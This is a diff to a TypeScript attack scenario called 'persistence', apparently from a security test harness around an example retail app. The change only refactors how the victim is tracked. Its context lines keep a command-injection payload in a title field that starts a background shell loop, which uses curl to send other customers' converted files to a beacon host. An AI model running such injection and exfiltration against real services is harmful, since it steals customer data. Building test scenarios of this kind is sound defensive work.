@@ -2,7 +2,7 @@
 import { literally } from '../../../examples/hello-retail/attack/ground-truth.ts';
 import { browser } from '../../../examples/hello-retail/attack/shop.ts';
 import { named, Truth } from '../desk/truth.ts';
-import type { Converted, Outcome, Scenario, World } from '../scenario.ts';
+import type { Outcome, Scenario, World } from '../scenario.ts';
 
 export const persistence: Scenario = {
   name: 'persistence',
@@ -36,17 +36,15 @@ async function attempt(world: World, round: number): Promise<Outcome | undefined
     `if [ "$n" != "$l" ];then curl -s --data-binary @$n ${beacon.url}${path};exit;fi;sleep 0.2;done`;
   const title = `${random.word(6)}";setsid sh -c '${loop}' </dev/null >/dev/null 2>&1 & : "`;
   const planted = await world.call('POST', '/convert', { body: { title, text: random.word(20) }, agent });
-  const victims: Converted[] = [];
   const arrived = () => world.visits('beacon').find((visit) => visit.path === path)?.body;
-  while (victims.length < MOST_VICTIMS && arrived() === undefined) {
+  for (let victims = 0; victims < MOST_VICTIMS && arrived() === undefined; victims++) {
     await world.turn();
     const text = Array.from({ length: 20 }, () => random.word(6)).join(' ');
-    const { body, requestId } = await world.call('POST', '/convert', { body: { title: 'a letter', text }, agent: browser });
-    victims.push({ id: String(body.id), text, requestId });
+    await world.call('POST', '/convert', { body: { title: 'a letter', text }, agent: browser });
   }
   const sent = arrived();
   if (sent === undefined) return undefined;
-  const victim = [...victims, ...world.converted()].find(({ text }) => text === sent);
+  const victim = world.converted().find(({ text }) => text === sent);
   if (victim === undefined) throw new Error(`round ${round}: a text arrived that nobody had converted: ${sent.slice(0, 80)}`);
   const fn = named('convert');
   const truth = new Truth()
@@ -62,7 +60,7 @@ async function attempt(world: World, round: number): Promise<Outcome | undefined
     .file('convert', `/tmp/convert/${victim.id}.txt`)
     .serves('the customer whose text it was', 'convert', victim, 'context')
     .converts(victim)
-    .context('the customer', { kind: 'client', label: literally(browser) });
+    .context('the customer', { kind: 'client', label: literally(victim.agent) });
   return {
     fact: { what: 'domain', q: beacon.host },
     entries: [planted.requestId, victim.requestId],
